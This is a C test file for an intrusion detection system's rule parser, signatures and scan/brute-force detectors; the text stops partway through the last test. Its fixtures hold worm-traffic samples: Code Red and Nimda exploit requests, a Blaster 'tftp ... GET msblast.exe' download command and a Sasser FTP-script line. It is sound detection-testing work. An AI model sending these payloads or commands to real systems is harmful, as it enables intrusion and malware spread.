/* test-rules: the rule language (parser errors, matching semantics),
 * vigia's own rule set on packets built from the public signature facts,
 * the behavioural detectors, incidents and their storage. */
#include <arpa/inet.h>
#include <errno.h>
#include <inttypes.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "check.h"
#include "db.h"
#include "det-behave.h"
#include "incident.h"
#include "proto-decode.h"
#include "rule-set.h"

/* ---- packets: raw IPv4 frames through the real decoder -------------------- */

struct pk {
	uint8_t buf[2048];
	struct vg_pkt p;
};

struct spec {
	uint8_t proto;
	const char *src, *dst;
	uint16_t sport, dport;
	uint8_t flags;
	uint32_t seq;
	uint16_t win, ipid;
	uint8_t ttl, icmp_type;
	const void *pl;
	size_t len;
	uint64_t ts;            /* seconds */
};

static void ip4(const char *s, uint8_t *out)
{
	unsigned a, b, c, d;
	sscanf(s, "%u.%u.%u.%u", &a, &b, &c, &d);
	out[0] = (uint8_t)a;
	out[1] = (uint8_t)b;
	out[2] = (uint8_t)c;
	out[3] = (uint8_t)d;
}

static void put16(uint8_t *p, unsigned v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static void put32(uint8_t *p, uint32_t v)
{
	put16(p, v >> 16);
	put16(p + 2, v & 0xffff);
}

static int build(struct pk *k, const struct spec *s)
{
	uint8_t *b = k->buf;
	memset(b, 0, sizeof k->buf);
	size_t l4 = s->proto == 6 ? 20 : 8;
	size_t tot = 20 + l4 + s->len;
	b[0] = 0x45;
	put16(b + 2, (unsigned)tot);
	put16(b + 4, s->ipid);
	b[8] = s->ttl ? s->ttl : 64;
	b[9] = s->proto;
	ip4(s->src, b + 12);
	ip4(s->dst, b + 16);
	uint8_t *t = b + 20;
	if (s->proto == 6) {
		put16(t, s->sport);
		put16(t + 2, s->dport);
		put32(t + 4, s->seq);
		t[12] = 5 << 4;
		t[13] = s->flags;
		put16(t + 14, s->win ? s->win : 8192);
	} else if (s->proto == 17) {
		put16(t, s->sport);
		put16(t + 2, s->dport);
		put16(t + 4, (unsigned)(8 + s->len));
	} else {
		t[0] = s->icmp_type;
	}
	if (s->len)
		memcpy(b + 20 + l4, s->pl, s->len);
	int st = vg_decode(VG_LINK_RAW, b, (uint32_t)tot, (uint32_t)tot, &k->p);
	k->p.ts_ns = (s->ts ? s->ts : 1790000000ull) * 1000000000ull;
	return st;
}

static struct rule_set *load_text(const char *text, struct vg_err *err)
{
	struct rule_set *rs;
	if (rule_set_new(&rs))
		return NULL;
	if (rule_set_parse(rs, "t.rules", text, strlen(text), err) || rule_set_compile(rs, err)) {
		rule_set_free(rs);
		return NULL;
	}
	return rs;
}

struct hits {
	size_t n;
	uint32_t sid[64];
	const struct rule_set *rs;
};

static int on_hit(void *ctx, size_t idx, const struct vg_pkt *p)
{
	(void)p;
	struct hits *h = ctx;
	if (h->n < 64)
		h->sid[h->n++] = rule_set_info(h->rs, idx)->sid;
	return 0;
}

/* sids of the rules in `text` that fire on the packet. */
static size_t fire(const char *text, const struct spec *s, uint32_t *first_sid)
{
	struct vg_err err = {0};
	struct rule_set *rs = load_text(text, &err);
	if (!rs) {
		fprintf(stderr, "rules did not load: %s\n", err.msg);
		return 999;
	}
	struct rule_matcher *m;
	struct pk k;
	struct hits h = {.rs = rs};
	if (!rule_matcher_new(&m, rs, 0)) {
		if (build(&k, s) == VG_DEC_OK)
			rule_match(m, &k.p, on_hit, &h);
		rule_matcher_free(m);
	}
	rule_set_free(rs);
	if (first_sid)
		*first_sid = h.n ? h.sid[0] : 0;
	return h.n;
}

#define HTTP(s) .proto = 6, .src = "198.51.100.7", .dst = "192.0.2.10", .sport = 40000, \
		.dport = 80, .flags = 0x18, .pl = s, .len = sizeof(s) - 1

/* ---- parser ---------------------------------------------------------------------- */

static void expect_error(const char *text, const char *want)
{
	struct vg_err err = {0};
	struct rule_set *rs = load_text(text, &err);
	CHECK(rs == NULL);
	rule_set_free(rs);
	if (!strstr(err.msg, want))
		fprintf(stderr, "  want '%s' in '%s'\n", want, err.msg);
	CHECK(strstr(err.msg, want) != NULL);
}

TEST(errors_name_file_line_and_column)
{
	expect_error("\n# comment\nalert tcp any any -> any 80 (msg:\"x\"; bogus:1; sid:1;)\n",
		     "t.rules:3:39: unsupported option 'bogus'");
	expect_error("alert tcp any any -> any 80 (content:\"|4|\"; sid:1;)", "t.rules:1:41: odd number");
	expect_error("alert tcp 10.0.0.300 any -> any 80 (sid:1;)", "t.rules:1:11: bad address");
	expect_error("alert tcp !any any -> any 80 (sid:1;)", "t.rules:1:11: '!any' matches nothing");
	expect_error("alert tcp any any -> any 70000 (sid:1;)", "t.rules:1:26: bad port");
	expect_error("alert tcp any any -> any 80 (msg:\"x\";)", "rule has no sid");
	expect_error("alert tcp any any -> any 80 (msg:\"x\"; sid:1;", "not closed with ')'");
	expect_error("alert tcp $NOPE any -> any 80 (sid:1;)", "undefined variable $NOPE");
	expect_error("alert tcp any any -> any 80 (nocase; sid:1;)", "must follow a content");
	expect_error("alert tcp any any -> any 80 (pcre:\"/a(/\"; sid:1;)", "pcre:");
	expect_error("alert tcp any any -> any 80 (pcre:\"/a/U\"; sid:1;)", "unsupported flag 'U'");
	expect_error("alert tcp any any -> any 80 (content:\"abc\"; depth:2; sid:1;)",
		     "shorter than the content");
	expect_error("alert tcp any any -> any 80 (content:\"a\"; offset:1; distance:1; sid:1;)",
		     "cannot be mixed");
	expect_error("drop tcp any any -> any 80 (sid:1;)", "t.rules:1:1: unknown action 'drop'");
	expect_error("alert sctp any any -> any 80 (sid:1;)", "t.rules:1:7: unknown protocol");
	expect_error("alert udp any any -> any 80 (flags:S; sid:1;)", "TCP header options");
	expect_error("alert tcp any any => any 80 (sid:1;)", "expected '->' or '<>'");
	expect_error("alert tcp ![1.2.3.4,!5.6.7.8] any -> any 80 (sid:1;)", "may not mix");
	/* continued lines: the error is placed on its physical line */
	expect_error("alert tcp any any -> any 80 \\\n  (msg:\"x\"; \\\n   sid:1; zz:1;)",
		     "t.rules:3:11: unsupported option 'zz'");
	/* hostile text: NUL bytes and unbounded nesting are refused */
	{
		static const char nul[] = "alert tcp any any -> any 80 (sid:1;)\n\0\n";
		struct rule_set *rs;
		struct vg_err err = {0};
		CHECK(!rule_set_new(&rs));
		CHECK(rule_set_parse(rs, "t.rules", nul, sizeof nul - 1, &err) < 0);
		CHECK(strstr(err.msg, "t.rules:2: NUL byte") != NULL);
		rule_set_free(rs);
	}
	expect_error("alert tcp [[[[[[1.2.3.4]]]]]] any -> any 80 (sid:1;)", "nested deeper");
}

TEST(rule_file_errors_name_the_path)
{
	char path[] = "/tmp/vigia-test-rules-XXXXXX";
	int fd = mkstemp(path);
	CHECK(fd >= 0);
	const char *text = "alert tcp any any -> any 80 (sid:1;)\nalert tcp any any -> any 80 (sid:x;)\n";
	CHECK(write(fd, text, strlen(text)) == (ssize_t)strlen(text));
	close(fd);
	struct rule_set *rs;
	CHECK(!rule_set_new(&rs));
	struct vg_err err = {0};
	CHECK(rule_set_load(rs, path, &err) < 0);
	char want[64];
	snprintf(want, sizeof want, "%s:2:", path);
	CHECK(strstr(err.msg, want) != NULL);
	CHECK_EQ_U(rule_set_count(rs), 1);
	rule_set_free(rs);
	unlink(path);
}

TEST(metadata_gives_category_name_and_taxonomy)
{
	struct vg_err err = {0};
	struct rule_set *rs = load_text(
		"alert tcp any any -> any 80 (msg:\"m\\\"q\"; sid:7; rev:2; classtype:trojan-activity; "
		"reference:cve,2003-0352; reference:url,x; metadata:category worm, name Blaster;)\n"
		"alert tcp any any -> any 80 (msg:\"p\"; sid:8; metadata:category spam, name open proxy "
		"probe, taxonomy information-gathering, type scanner;)\n"
		"alert tcp any any -> any 80 (msg:\"plain\"; sid:9;)\n", &err);
	CHECK(rs != NULL);
	if (!rs)
		return;
	const struct rule_info *a = rule_set_info(rs, 0), *b = rule_set_info(rs, 1),
			       *c = rule_set_info(rs, 2);
	CHECK_STREQ(a->msg, "m\"q");
	CHECK_EQ_U(a->sid, 7);
	CHECK_EQ_U(a->rev, 2);
	CHECK_STREQ(a->classtype, "trojan-activity");
	CHECK_STREQ(a->references, "cve,2003-0352 url,x");
	CHECK_STREQ(a->category, "worm");
	CHECK_STREQ(a->name, "Blaster");
	CHECK_STREQ(a->taxonomy, "malicious-code");
	CHECK_STREQ(a->type, "infected-system");
	CHECK_STREQ(b->name, "open proxy probe");
	CHECK_STREQ(b->taxonomy, "information-gathering");
	CHECK_STREQ(b->type, "scanner");
	CHECK_STREQ(c->category, "other");
	CHECK_STREQ(c->name, "plain");
	CHECK_EQ_U(c->line, 3);
	rule_set_free(rs);
}

/* ---- matching semantics ------------------------------------------------------------- */

TEST(content_offset_depth_distance_within_nocase)
{
	struct spec s = {HTTP("GET /a/default.ida?NNNN HTTP/1.0\r\n")};
	const char *R = "alert tcp any any -> any 80 (sid:1; ";
	char buf[512];
#define FIRES(opts) (snprintf(buf, sizeof buf, "%s%s)", R, opts), fire(buf, &s, NULL))
	CHECK_EQ_U(FIRES("content:\"GET \"; depth:4;"), 1);
	CHECK_EQ_U(FIRES("content:\"/a/\"; depth:4;"), 0);      /* starts at 4: outside depth 4 */
	CHECK_EQ_U(FIRES("content:\"/a/\"; offset:4; depth:3;"), 1);
	CHECK_EQ_U(FIRES("content:\"/a/\"; offset:5;"), 0);
	CHECK_EQ_U(FIRES("content:\"DEFAULT.IDA\";"), 0);
	CHECK_EQ_U(FIRES("content:\"DEFAULT.IDA\"; nocase;"), 1);
	CHECK_EQ_U(FIRES("content:\"GET\"; content:\"NNNN\"; distance:0;"), 1);
	CHECK_EQ_U(FIRES("content:\"ida?\"; content:\"NNNN\"; distance:0; within:4;"), 1);
	CHECK_EQ_U(FIRES("content:\"ida?\"; content:\"NNNN\"; distance:1;"), 0);
	CHECK_EQ_U(FIRES("content:\"GET\"; content:\"NNNN\"; within:10;"), 0);
	/* order matters: relative contents look after the previous match */
	CHECK_EQ_U(FIRES("content:\"NNNN\"; content:\"GET\"; distance:0;"), 0);
	/* backtracking: the first "a" is not followed closely by "d", a later one is */
	CHECK_EQ_U(FIRES("content:\"/\"; content:\"d\"; within:1;"), 1);
	CHECK_EQ_U(FIRES("content:\"|47 45 54 20|\"; depth:4;"), 1);
	CHECK_EQ_U(FIRES("content:\"GET\"; content:!\"POST\";"), 1);
	CHECK_EQ_U(FIRES("content:\"GET\"; content:!\"NNNN\";"), 0);
	CHECK_EQ_U(FIRES("pcre:\"/^get \\/a/i\";"), 1);
	CHECK_EQ_U(FIRES("pcre:\"/^get \\/a/\";"), 0);
	CHECK_EQ_U(FIRES("content:\"ida?\"; pcre:\"/^NNNN/R\";"), 1);
	CHECK_EQ_U(FIRES("content:\"GET\"; pcre:\"/^NNNN/R\";"), 0);
	CHECK_EQ_U(FIRES("pcre:!\"/POST/\";"), 1);
	CHECK_EQ_U(FIRES("dsize:>10;"), 1);
	CHECK_EQ_U(FIRES("dsize:<10;"), 0);
	CHECK_EQ_U(FIRES("dsize:30<>40;"), 1);
	CHECK_EQ_U(FIRES("dsize:34;"), 1);
	CHECK_EQ_U(FIRES("flags:PA;"), 1);
	CHECK_EQ_U(FIRES("flags:P;"), 0);
	CHECK_EQ_U(FIRES("flags:P+;"), 1);
	CHECK_EQ_U(FIRES("flags:*SP;"), 1);
	CHECK_EQ_U(FIRES("flags:!S;"), 1);
	CHECK_EQ_U(FIRES("flags:!A;"), 0);
	CHECK_EQ_U(FIRES("flags:P,A;"), 1);     /* ACK masked out */
#undef FIRES
}

TEST(addresses_ports_variables_and_direction)
{
	struct spec s = {HTTP("hello")};
	CHECK_EQ_U(fire("alert tcp 198.51.100.0/24 any -> 192.0.2.10 80 (sid:1;)", &s, NULL), 1);
	CHECK_EQ_U(fire("alert tcp !198.51.100.0/24 any -> any any (sid:1;)", &s, NULL), 0);
	CHECK_EQ_U(fire("alert tcp [10.0.0.0/8,198.51.100.7] any -> any any (sid:1;)", &s, NULL), 1);
	CHECK_EQ_U(fire("alert tcp [198.51.100.0/24,!198.51.100.7] any -> any any (sid:1;)", &s, NULL), 0);
	CHECK_EQ_U(fire("alert tcp any any -> any [21,22,80:90] (sid:1;)", &s, NULL), 1);
	CHECK_EQ_U(fire("alert tcp any any -> any !80 (sid:1;)", &s, NULL), 0);
	CHECK_EQ_U(fire("alert tcp any any -> any 81: (sid:1;)", &s, NULL), 0);
	CHECK_EQ_U(fire("alert tcp any any -> any :80 (sid:1;)", &s, NULL), 1);
	CHECK_EQ_U(fire("alert tcp any 40000 -> any any (sid:1;)", &s, NULL), 1);
	CHECK_EQ_U(fire("alert udp any any -> any any (sid:1;)", &s, NULL), 0);
	CHECK_EQ_U(fire("alert ip any any -> any any (sid:1;)", &s, NULL), 1);
	CHECK_EQ_U(fire("var HOME_NET [192.0.2.0/24]\nportvar P [79:81]\n"
			"alert tcp $EXTERNAL_NET any -> $HOME_NET $P (sid:1;)", &s, NULL), 1);
	CHECK_EQ_U(fire("var HOME_NET [203.0.113.0/24]\n"
			"alert tcp any any -> $HOME_NET any (sid:1;)", &s, NULL), 0);
	CHECK_EQ_U(fire("alert tcp any 80 -> 198.51.100.7 any (sid:1;)", &s, NULL), 0);
	CHECK_EQ_U(fire("alert tcp any 80 <> 198.51.100.7 any (sid:1;)", &s, NULL), 1);
	/* IPv6 addresses in lists */
	CHECK_EQ_U(fire("alert tcp [2001:db8::/32,198.51.100.7/32] any -> any any (sid:1;)", &s, NULL), 1);
}

TEST(header_options_and_vigia_extensions)
{
	struct spec syn = {.proto = 6, .src = "198.51.100.7", .dst = "192.0.2.10", .sport = 1234,
			   .dport = 23, .flags = 0x02, .seq = 0xc000020a, .win = 1024, .ipid = 54321,
			   .ttl = 250};
	CHECK_EQ_U(fire("alert tcp any any -> any 23 (flags:S; vigia_seq_is_dst; sid:1;)", &syn, NULL), 1);
	syn.seq++;
	CHECK_EQ_U(fire("alert tcp any any -> any 23 (flags:S; vigia_seq_is_dst; sid:1;)", &syn, NULL), 0);
	CHECK_EQ_U(fire("alert tcp any any -> any any (seq:3221225995; sid:1;)", &syn, NULL), 1);
	CHECK_EQ_U(fire("alert tcp any any -> any any (id:54321; window:1024; ttl:>200; sid:1;)",
			&syn, NULL), 1);
	CHECK_EQ_U(fire("alert tcp any any -> any any (window:!1024; sid:1;)", &syn, NULL), 0);
	/* masscan: IP ID = (dst ^ dport ^ seq) & 0xffff */
	syn.ipid = (uint16_t)(0xc000020au ^ 23u ^ syn.seq);
	CHECK_EQ_U(fire("alert tcp any any -> any any (vigia_masscan_ipid; sid:1;)", &syn, NULL), 1);
	syn.ipid++;
	CHECK_EQ_U(fire("alert tcp any any -> any any (vigia_masscan_ipid; sid:1;)", &syn, NULL), 0);
	struct spec ping = {.proto = 1, .src = "198.51.100.7", .dst = "192.0.2.10", .icmp_type = 8};
	CHECK_EQ_U(fire("alert icmp any any -> any any (itype:8; sid:1;)", &ping, NULL), 1);
	CHECK_EQ_U(fire("alert icmp any any -> any any (itype:0; sid:1;)", &ping, NULL), 0);
}

TEST(detection_filter_fires_after_count_within_seconds)
{
	struct vg_err err = {0};
	struct rule_set *rs = load_text("alert tcp any any -> any 21 (content:\"PASS \"; depth:5; "
					"detection_filter:track by_src, count 3, seconds 60; sid:5;)", &err);
	CHECK(rs != NULL);
	if (!rs)
		return;
	struct rule_matcher *m;
	CHECK(!rule_matcher_new(&m, rs, 64));
	struct spec s = {.proto = 6, .src = "198.51.100.7", .dst = "192.0.2.10", .sport = 5000,
			 .dport = 21, .flags = 0x18, .pl = "PASS x\r\n", .len = 8, .ts = 1000};
	struct pk k;
	int got[6];
	for (int i = 0; i < 6; i++) {
		s.ts = 1000 + (uint64_t)i * (i == 5 ? 100 : 1);
		build(&k, &s);
		got[i] = rule_match(m, &k.p, NULL, NULL);
	}
	CHECK_EQ_I(got[0] + got[1] + got[2], 0);
	CHECK_EQ_I(got[3], 1);
	CHECK_EQ_I(got[4], 1);
	CHECK_EQ_I(got[5], 0);      /* a new window after 60 s */
	rule_matcher_free(m);
	rule_set_free(rs);
}

TEST(one_pass_over_many_rules_finds_each_pattern)
{
	/* 2000 rules, each with its own fast pattern; one payload holds three */
	size_t cap = 2000 * 96;
	char *text = malloc(cap);
	size_t w = 0;
	for (int i = 0; i < 2000; i++)
		w += (size_t)snprintf(text + w, cap - w,
				      "alert tcp any any -> any any (content:\"tok%04dx\"; sid:%d;)\n",
				      i, i + 1);
	struct vg_err err = {0};
	struct rule_set *rs = load_text(text, &err);
	free(text);
	CHECK(rs != NULL);
	if (!rs)
		return;
	CHECK_EQ_U(rule_set_count(rs), 2000);
	struct rule_matcher *m;
	CHECK(!rule_matcher_new(&m, rs, 0));
	struct spec s = {HTTP("xx tok0007x yy TOK1999X tok0500x tok0500x tok12")};
	struct pk k;
	build(&k, &s);
	struct hits h = {.rs = rs};
	CHECK_EQ_I(rule_match(m, &k.p, on_hit, &h), 2);
	CHECK_EQ_U(h.n, 2);
	CHECK_EQ_U(h.sid[0], 8);
	CHECK_EQ_U(h.sid[1], 501);
	/* only the rules whose pattern occurs were verified */
	CHECK_EQ_U(rule_matcher_stats(m)->candidates, 3);
	rule_matcher_free(m);
	rule_set_free(rs);
}

/* ---- vigia's own rule set ------------------------------------------------------------ */

static struct rule_set *vigia_rules(void)
{
	const char *src = getenv("VIGIA_SRCDIR");
	char path[1024];
	snprintf(path, sizeof path, "%s/rules/vigia.rules", src ? src : ".");
	struct rule_set *rs;
	struct vg_err err = {0};
	if (rule_set_new(&rs))
		return NULL;
	if (rule_set_var(rs, "HOME_NET", "[192.0.2.0/24]", &err) || rule_set_load(rs, path, &err) ||
	    rule_set_compile(rs, &err)) {
		fprintf(stderr, "%s\n", err.msg);
		rule_set_free(rs);
		return NULL;
	}
	return rs;
}

/* The name of the first incident the packet makes (rules only). */
static void expect_incident(struct rule_set *rs, const struct spec *s, const char *cat,
			    const char *name)
{
	struct classifier_config cc = {.rules = rs, .no_detectors = true};
	struct classifier *cl;
	struct vg_err err = {0};
	if (classifier_new(&cl, &cc, &err)) {
		CHECK(0);
		return;
	}
	struct pk k;
	CHECK_EQ_I(build(&k, s), VG_DEC_OK);
	classify_packet(cl, &k.p, 1, NULL);
	const struct incident *in = classifier_get(cl, 0);
	if (!in)
		fprintf(stderr, "  no incident, want %s/%s\n", cat, name);
	CHECK(in != NULL);
	if (in) {
		CHECK_STREQ(in->category, cat);
		CHECK_STREQ(in->name, name);
	}
	classifier_free(cl);
}

TEST(vigia_rules_fire_on_worm_and_spam_facts)
{
	struct rule_set *rs = vigia_rules();
	CHECK(rs != NULL);
	if (!rs)
		return;
	/* Slammer: 04, then the worm code with its sock/send imports */
	uint8_t slam[376];
	memset(slam, 0x01, sizeof slam);
	slam[0] = 0x04;
	memcpy(slam + 97, "\x81\xf1\x03\x01\x04\x9b\x81\xf1\x01", 9);
	memcpy(slam + 180, "sock", 4);
	memcpy(slam + 200, "send", 4);
	struct spec s = {.proto = 17, .src = "198.51.100.7", .dst = "192.0.2.10", .sport = 1234,
			 .dport = 1434, .pl = slam, .len = sizeof slam};
	expect_incident(rs, &s, "worm", "Slammer");

	struct spec cr1 = {HTTP("GET /default.ida?NNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNN%u9090%u6858 "
				"HTTP/1.0\r\n")};
	expect_incident(rs, &cr1, "worm", "Code Red");
	struct spec cr2 = {HTTP("GET /default.ida?XXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX%u9090%u6858 "
				"HTTP/1.0\r\n")};
	expect_incident(rs, &cr2, "worm", "Code Red II");
	struct spec nimda1 = {HTTP("GET /scripts/root.exe?/c+dir HTTP/1.0\r\nHost: www\r\n\r\n")};
	expect_incident(rs, &nimda1, "worm", "Nimda");
	struct spec nimda2 = {HTTP("GET /scripts/..%255c../winnt/system32/cmd.exe?/c+dir HTTP/1.0\r\n")};
	expect_incident(rs, &nimda2, "worm", "Nimda");

	char port[300] = "PORT ";
	memset(port + 5, 'A', 250);
	port[255] = '\r';
	port[256] = '\n';
	struct spec dab = {.proto = 6, .src = "198.51.100.7", .dst = "192.0.2.10", .sport = 1234,
			   .dport = 5554, .flags = 0x18, .pl = port, .len = 257};
	expect_incident(rs, &dab, "worm", "Dabber");
	struct spec dab2 = {.proto = 6, .src = "198.51.100.7", .dst = "192.0.2.10", .sport = 1234,
			    .dport = 9898, .flags = 0x18, .pl = "\x01\x02", .len = 2};
	expect_incident(rs, &dab2, "worm", "Dabber");

	struct spec doom = {.proto = 6, .src = "198.51.100.7", .dst = "192.0.2.10", .sport = 1234,
			    .dport = 3127, .flags = 0x18, .pl = "\x85\x13\x3c\x9e\xa2MZ", .len = 7};
	expect_incident(rs, &doom, "worm", "MyDoom");
	struct spec doom_scan = {.proto = 6, .src = "198.51.100.7", .dst = "192.0.2.10",
				 .sport = 1234, .dport = 3127, .flags = 0x02};
	expect_incident(rs, &doom_scan, "worm", "MyDoom");

	uint8_t msg[200] = {0x04, 0x00, 0x28, 0x00, 0x10};
	memcpy(msg + 80, "ALERT: DANGEROUS SPYWARE VIRUS FOUND", 36);
	struct spec mess = {.proto = 17, .src = "198.51.100.7", .dst = "192.0.2.10", .sport = 1234,
			    .dport = 1027, .pl = msg, .len = sizeof msg};
	expect_incident(rs, &mess, "spam", "Messenger pop-up spam");

	struct spec blast = {.proto = 6, .src = "198.51.100.7", .dst = "192.0.2.10", .sport = 1234,
			     .dport = 4444, .flags = 0x18,
			     .pl = "tftp -i 198.51.100.7 GET msblast.exe\n", .len = 37};
	expect_incident(rs, &blast, "worm", "Blaster");
	uint8_t bind[72] = {0x05, 0x00, 0x0b, 0x03, 0x10};
	memcpy(bind + 32, "\xa0\x01\x00\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46", 16);
	struct spec blast135 = {.proto = 6, .src = "198.51.100.7", .dst = "192.0.2.10",
				.sport = 1234, .dport = 135, .flags = 0x18, .pl = bind, .len = 72};
	expect_incident(rs, &blast135, "worm", "Blaster");

	struct spec sasser = {.proto = 6, .src = "198.51.100.7", .dst = "192.0.2.10", .sport = 1234,
			      .dport = 9996, .flags = 0x18,
			      .pl = "echo get 12345_up.exe>>cmd.ftp\n", .len = 31};
	expect_incident(rs, &sasser, "worm", "Sasser");

	struct spec zmap = {.proto = 6, .src = "198.51.100.7", .dst = "192.0.2.10", .sport = 1234,
			    .dport = 443, .flags = 0x02, .ipid = 54321, .win = 65535};
	expect_incident(rs, &zmap, "scan", "zmap");
	struct spec mirai = {.proto = 6, .src = "198.51.100.7", .dst = "192.0.2.10", .sport = 1234,
			     .dport = 2323, .flags = 0x02, .seq = 0xc000020a};
	expect_incident(rs, &mirai, "bot", "Mirai scan");
	struct spec socks4 = {.proto = 6, .src = "198.51.100.7", .dst = "192.0.2.10", .sport = 1234,
			      .dport = 1080, .flags = 0x18, .pl = "\x04\x01\x00\x19\x01\x02\x03\x04" "bob",
			      .len = 12};
	expect_incident(rs, &socks4, "spam", "open proxy probe");
	rule_set_free(rs);
}

TEST(vigia_rules_stay_quiet_on_benign_shapes)
{
	struct rule_set *rs = vigia_rules();
	CHECK(rs != NULL);
	if (!rs)
		return;
	struct rule_matcher *m;
	CHECK(!rule_matcher_new(&m, rs, 0));
	struct spec benign[] = {
		{HTTP("GET / HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: Mozilla/5.0\r\n\r\n")},
		{HTTP("GET /index.html?q=cd+/tmp HTTP/1.1\r\nHost: a\r\n\r\n")},
		{HTTP("POST /login HTTP/1.1\r\nContent-Length: 5\r\n\r\nNICK x")},
		{.proto = 6, .src = "198.51.100.7", .dst = "192.0.2.10", .sport = 1, .dport = 445,
		 .flags = 0x02, .win = 64240},
		{.proto = 1, .src = "198.51.100.7", .dst = "192.0.2.10", .icmp_type = 8},
		{.proto = 17, .src = "198.51.100.7", .dst = "192.0.2.10", .sport = 5353, .dport = 53,
		 .pl = "\x12\x34\x01\x00\x00\x01", .len = 6},
	};
	for (size_t i = 0; i < sizeof benign / sizeof benign[0]; i++) {
		struct pk k;
		CHECK_EQ_I(build(&k, &benign[i]), VG_DEC_OK);
		CHECK_EQ_I(rule_match(m, &k.p, NULL, NULL), 0);
	}
	rule_matcher_free(m);
	rule_set_free(rs);
}

/* ---- detectors ------------------------------------------------------------------------ */

struct dhits {
	int n[DET_NKINDS];
	uint32_t count[DET_NKINDS];
	const char *name[DET_NKINDS];
};

static int on_det(void *ctx, const struct det_hit *h, const struct vg_pkt *p)
{
	(void)p;
	struct dhits *d = ctx;
	d->n[h->kind]++;
	d->count[h->kind] += h->count;
	d->name[h->kind] = h->name;
	return 0;
}

TEST(detectors_fire_at_their_thresholds)
{
	struct det_config c;
	det_config_default(&c);
	c.hscan_hosts = 4;
	c.vscan_ports = 5;
	c.brute_conns = 3;
	struct det *d;
	CHECK(!det_new(&d, &c));
	struct dhits h = {0};
	struct pk k;
	char dst[32];
	/* horizontal: port 22 on 6 addresses; SYN-ACK replies never count */
	for (int i = 0; i < 6; i++) {
		snprintf(dst, sizeof dst, "192.0.2.%d", 10 + i);
		struct spec s = {.proto = 6, .src = "198.51.100.7", .dst = dst, .sport = 999,
				 .dport = 22, .flags = 0x02};
		build(&k, &s);
		det_packet(d, &k.p, on_det, &h);
		struct spec r = {.proto = 6, .src = dst, .dst = "198.51.100.9", .sport = 22,
				 .dport = (uint16_t)(100 + i), .flags = 0x12};
		build(&k, &r);
		det_packet(d, &k.p, on_det, &h);
	}
	CHECK_EQ_I(h.n[DET_HSCAN], 3);          /* at the 4th address, then each further */
	CHECK_EQ_U(h.count[DET_HSCAN], 4 + 1 + 1);
	CHECK_EQ_I(h.n[DET_VSCAN], 0);
	/* vertical: 5 ports of one address */
	for (int i = 0; i < 5; i++) {
		struct spec s = {.proto = 17, .src = "198.51.100.8", .dst = "192.0.2.10", .sport = 999,
				 .dport = (uint16_t)(1000 + i)};
		build(&k, &s);
		det_packet(d, &k.p, on_det, &h);
	}
	CHECK_EQ_I(h.n[DET_VSCAN], 1);
	CHECK_STREQ(h.name[DET_VSCAN], "vertical scan");
	/* brute force: SYN retransmissions (same source port) count once */
	for (int i = 0; i < 4; i++) {
		struct spec s = {.proto = 6, .src = "198.51.100.9", .dst = "192.0.2.10",
				 .sport = (uint16_t)(5000 + i / 2), .dport = 21, .flags = 0x02};
		build(&k, &s);
		det_packet(d, &k.p, on_det, &h);
	}
	CHECK_EQ_I(h.n[DET_BRUTE], 0);
	struct spec s3 = {.proto = 6, .src = "198.51.100.9", .dst = "192.0.2.10", .sport = 5002,
			  .dport = 21, .flags = 0x02};
	build(&k, &s3);
	det_packet(d, &k.p, on_det, &h);
	CHECK_EQ_I(h.n[DET_BRUTE], 1);
	CHECK_STREQ(h.name[DET_BRUTE], "FTP brute force");
	/* IRC traits: NICK then USER lines */
	struct spec irc = {.proto = 6, .src = "198.51.100.10", .dst = "192.0.2.10", .sport = 6000,
			   .dport = 6667, .flags = 0x18, .pl = "NICK bot123\r\nUSER a b c :d\r\n",
			   .len = 27};
	build(&k, &irc);
	det_packet(d, &k.p, on_det, &h);
	CHECK_EQ_I(h.n[DET_BOT], 1);
	det_free(d);
}

TEST(detector_memory_is_bounded)
{
	struct det_config c;
	det_config_default(&c);
	c.max_entries = 64;
	struct det *d;
	CHECK(!det_new(&d, &c));
	struct pk k;
	char src[32], dst[32];
	size_t mem1000 = 0;
	for (int i = 0; i < 5000; i++) {
		snprintf(src, sizeof src, "10.%d.%d.1", i / 250, i % 250);
		snprintf(dst, sizeof dst, "192.0.2.%d", i % 200);
		struct spec s = {.proto = 6, .src = src, .dst = dst, .sport = 1,
				 .dport = (uint16_t)(80 + i % 7), .flags = 0x02};
		build(&k, &s);
		det_packet(d, &k.p, NULL, NULL);
		if (i == 999)
			mem1000 = det_memory(d);
	}
	/* past the budget nothing more is held, and what was not tracked is
	 * counted */
	CHECK(mem1000 > 0);
	CHECK_EQ_U(det_memory(d), mem1000);
	CHECK(det_get_stats(d)->entries + det_get_stats(d)->sources <= 64 + 64);
	CHECK(det_get_stats(d)->untracked > 4000);
	det_free(d);
}

/* Past the values an entry holds inline, pairs are entries of their own,
 * and the table grows meanwhile: counts stay exact. */
TEST(detectors_count_exactly_past_inline_values_and_table_growth)
{
	struct det_config c;
	det_config_default(&c);
	c.vscan_ports = 20;
	c.hscan_hosts = 200;
	struct det *d;
	CHECK(!det_new(&d, &c));
	struct dhits h = {0};
	struct pk k;
	char dst[32];
	int fired_at = -1;
	for (int i = 0; i < 30; i++) {
		for (int rep = 0; rep < 2; rep++) {
			/* the same port again on the vertical target: not new */
			struct spec s = {.proto = 6, .src = "198.51.100.7", .dst = "192.0.2.1",
					 .sport = 999, .dport = (uint16_t)(1000 + i), .flags = 0x02};
			build(&k, &s);
			int before = h.n[DET_VSCAN];
			det_packet(d, &k.p, on_det, &h);
			if (before == 0 && h.n[DET_VSCAN] == 1)
				fired_at = i;
		}
		/* other addresses grow the source's table */
		for (int j = 0; j < 6; j++) {
			snprintf(dst, sizeof dst, "192.0.2.%d", 10 + i * 6 % 200 + j);
			struct spec o = {.proto = 6, .src = "198.51.100.7", .dst = dst, .sport = 999,
					 .dport = (uint16_t)(5000 + j), .flags = 0x02};
			build(&k, &o);
			det_packet(d, &k.p, on_det, &h);
		}
	}
	CHECK_EQ_I(fired_at, 19);               /* the 20th distinct port */
	/* 20 when it fired, then every later probe of that address: the
	 * repeat of port 1019 and both probes of 1020..1029 */
	CHECK_EQ_U(h.count[DET_VSCAN], 20 + 1 + 2 * 10);
	CHECK_EQ_I(h.n[DET_VSCAN], 1 + 1 + 2 * 10);
